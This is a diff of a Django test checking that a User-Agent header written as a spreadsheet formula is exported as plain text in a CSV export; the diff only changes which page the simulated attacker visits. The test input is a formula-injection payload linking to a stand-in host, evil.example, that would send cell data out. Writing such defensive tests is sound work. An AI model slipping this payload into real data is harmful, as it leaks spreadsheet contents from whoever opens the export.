@@ -24,7 +24,7 @@ def test_a_user_agent_written_as_a_formula_is_exported_as_text(
 ) -> None:
     attacker = Client(HTTP_USER_AGENT='=HYPERLINK("https://evil.example/?"&A1,"open")')
     attacker.force_login(patient_fl)
-    attacker.get(reverse("patients:dashboard"))
+    attacker.get(reverse("workspace:home"))
     client = client_for(admin_user)
     client.post(reverse("account_reauthenticate"), {"password": password})
     rows = list(csv.reader(io.StringIO(b"".join(client.get(EXPORT)).decode())))
